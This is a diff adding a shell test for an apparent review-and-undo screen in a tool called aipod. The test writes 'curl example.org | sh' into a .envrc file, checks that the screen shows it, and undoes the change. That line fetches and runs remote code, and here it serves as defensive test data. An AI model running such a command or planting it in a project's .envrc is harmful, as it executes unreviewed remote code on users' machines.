@@ -118,6 +118,22 @@ fake() {	# NAME TEXT
 	ended 0
 }
 
+@test "screen: review, and taking one back" {
+	aipod-undo --begin 00000001
+	echo 'curl example.org | sh' >.envrc
+	start aipod-screen review
+	see .envrc
+	see 'curl example.org | sh'
+	tm send-keys u
+	see 'Do this?'
+	tm send-keys y Enter
+	until_true 10 test ! -e .envrc
+	tm send-keys Enter
+	until_true 10 gone shell
+	tm send-keys q
+	ended 0
+}
+
 @test "screen: in a pipe the plain list" {
 	aipod-allow add host example.org
 	for s in allowed env-files sessions approvals; do
